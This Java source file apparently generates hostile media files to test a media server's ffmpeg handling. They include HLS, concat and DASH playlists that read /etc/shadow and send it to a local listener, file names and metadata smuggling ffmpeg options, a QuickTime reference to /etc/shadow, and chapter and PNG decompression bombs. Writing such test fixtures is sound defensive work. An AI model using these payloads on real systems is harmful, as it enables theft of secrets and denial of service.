package medianest.stream;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import medianest.ffmpeg.Demuxer;

/** Makes files that are to do damage. */
final class HostileFiles {

  /** What they want to have read, and no program has a reason to. */
  static final String SECRET = "/etc/shadow";

  private static final int CHAPTERS = 1_000_000;

  private final Path folder;

  HostileFiles(Path folder) {
    this.folder = folder;
  }

  /** How ffmpeg is told to read each. */
  static List<Demuxer> demuxers(Path file) {
    String name = file.getFileName().toString();
    return switch (name.substring(name.lastIndexOf('.') + 1)) {
      case "avi" -> List.of(Demuxer.AVI);
      case "mkv" -> List.of(Demuxer.MATROSKA);
      case "mov" -> List.of(Demuxer.MOV);
      case "png" -> List.of(Demuxer.PNG);
      // Something that is none of them.
      default -> List.of(Demuxer.MOV, Demuxer.MATROSKA, Demuxer.MPEG_TS);
    };
  }

  /**
   * Makes them all.
   *
   * @param port where somebody listens for calls
   */
  void make(int port) throws Exception {
    String address = "http://127.0.0.1:" + port + "/stolen.ts";
    write("playlist.mp4", media("file://" + SECRET) + "#EXTINF:4,\n" + address + "\n");
    write("master.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + address + "\n");
    write("concat.mp4", "ffconcat version 1.0\nfile '" + SECRET + "'\nfile '" + address + "'\n");
    write("manifest.mp4", manifest(address));
    film("film' -vf drawtext=textfile=" + SECRET.replace('/', '%') + ":'.mkv", 1);
    reference();
    Files.write(folder.resolve("chapters.mkv"), chapters());
    pictures("magic.avi", "testsrc2=size=64x64:duration=1", "magicyuv");
    pictures("magic.mkv", "testsrc2=size=64x64:duration=1", "magicyuv");
    pictures("large.avi", "color=size=12000x12000:rate=1:duration=1", "png");
    Files.write(folder.resolve("huge.png"), picture(16_384));
  }

  private void write(String name, String content) throws IOException {
    Files.write(folder.resolve(name), content.getBytes(UTF_8));
  }

  private static String media(String first) {
    return "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n" + first + "\n";
  }

  private static String manifest(String address) {
    return "<MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static'><Period><AdaptationSet"
        + " mimeType='video/mp4'><Representation id='1' bandwidth='1'><BaseURL>"
        + address
        + "</BaseURL></Representation></AdaptationSet></Period></MPD>";
  }

  private static void run(List<String> before, String codec, Path to) throws Exception {
    List<String> line = new ArrayList<>(before);
    line.addAll(List.of("-c:v", codec, to.toString()));
    Ffmpeg.run(line);
  }

  private void pictures(String name, String source, String codec) throws Exception {
    List<String> line = new ArrayList<>(List.of("-f", "lavfi", "-i", source));
    run(line, codec, folder.resolve(name));
  }

  /** A film that is encoded anew, whose name and titles are words of a command line. */
  private void film(String name, int seconds) throws Exception {
    String source = "testsrc2=size=160x90:rate=25:duration=" + seconds;
    String title = "title=' -vf drawtext=textfile=" + SECRET;
    run(
        List.of("-f", "lavfi", "-i", source, "-metadata", title, "-metadata:s:v:0", title),
        "mpeg4",
        folder.resolve(name));
  }

  /** A film that says that its pictures lie in another file (ISO/IEC 14496-12 clause 8.7.2). */
  private void reference() throws Exception {
    film("reference.mov", 1);
    Path file = folder.resolve("reference.mov");
    byte[] film = Files.readAllBytes(file);
    String text = new String(film, ISO_8859_1);
    int entry = text.indexOf("dref") + 12;
    // QuickTime calls it an alias; the flag that the data lie in this file is taken away.
    System.arraycopy("alis".getBytes(UTF_8), 0, film, entry + 4, 4);
    ByteBuffer.wrap(film).putInt(entry + 8, 0);
    byte[] path = aliasRecord();
    int size = ByteBuffer.wrap(film).getInt(entry);
    byte[] grown = new byte[film.length + path.length];
    System.arraycopy(film, 0, grown, 0, entry + size);
    System.arraycopy(path, 0, grown, entry + size, path.length);
    System.arraycopy(
        film, entry + size, grown, entry + size + path.length, film.length - entry - size);
    // The boxes around it grow with it; the moov lies behind the data, whose places stay.
    for (String box : List.of("moov", "trak", "mdia", "minf", "dinf", "dref")) {
      grow(grown, text.indexOf(box) - 4, path.length);
    }
    grow(grown, entry, path.length);
    Files.write(file, grown);
  }

  private static void grow(byte[] film, int at, int by) {
    ByteBuffer view = ByteBuffer.wrap(film);
    view.putInt(at, view.getInt(at) + by);
  }

  /** As the demuxer of QuickTime reads it: 150 bytes of no interest, then names by their kind. */
  private static byte[] aliasRecord() {
    byte[] path = SECRET.getBytes(UTF_8);
    ByteBuffer record = ByteBuffer.allocate(150 + 4 + path.length + path.length % 2 + 4);
    record.position(150);
    record.putShort((short) 2).putShort((short) path.length).put(path);
    if (path.length % 2 != 0) {
      record.put((byte) 0);
    }
    record.putShort((short) -1).putShort((short) 0);
    return record.array();
  }

  /** A black square in PNG, of a bit a pixel; ffmpeg would not write one of that size. */
  private static byte[] picture(int side) throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater = new DeflaterOutputStream(packed)) {
      byte[] row = new byte[1 + side / 8];
      for (int y = 0; y < side; y++) {
        deflater.write(row);
      }
    }
    byte[] head = ByteBuffer.allocate(13).putInt(side).putInt(side).put((byte) 1).array();
    return joined(
        new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'},
        chunk("IHDR", head),
        chunk("IDAT", packed.toByteArray()),
        chunk("IEND", new byte[0]));
  }

  private static byte[] chunk(String type, byte[] content) {
    byte[] named = joined(type.getBytes(UTF_8), content);
    CRC32 check = new CRC32();
    check.update(named);
    return ByteBuffer.allocate(8 + named.length)
        .putInt(content.length)
        .put(named)
        .putInt((int) check.getValue())
        .array();
  }

  /** An element of Matroska with a size of eight bytes (RFC 8794 section 4). */
  static byte[] element(int id, byte[] content) {
    byte[] name = ByteBuffer.allocate(4).putInt(id).array();
    int zeros = Integer.numberOfLeadingZeros(id) / 8;
    return joined(
        Arrays.copyOfRange(name, zeros, 4),
        ByteBuffer.allocate(8).putLong(1L << 56 | content.length).array(),
        content);
  }

  private static byte[] chapters() {
    byte[] atom = element(0xB6, element(0x91, new byte[] {1}));
    ByteBuffer all = ByteBuffer.allocate(atom.length * CHAPTERS);
    for (int i = 0; i < CHAPTERS; i++) {
      all.put(atom);
    }
    byte[] header = element(0x1A45DFA3, element(0x4282, "matroska".getBytes(UTF_8)));
    byte[] edition = element(0x1043A770, element(0x45B9, all.array()));
    return joined(header, element(0x18538067, edition));
  }

  static byte[] joined(byte[]... all) {
    ByteArrayOutputStream joined = new ByteArrayOutputStream();
    Arrays.stream(all).forEach(joined::writeBytes);
    return joined.toByteArray();
  }
}
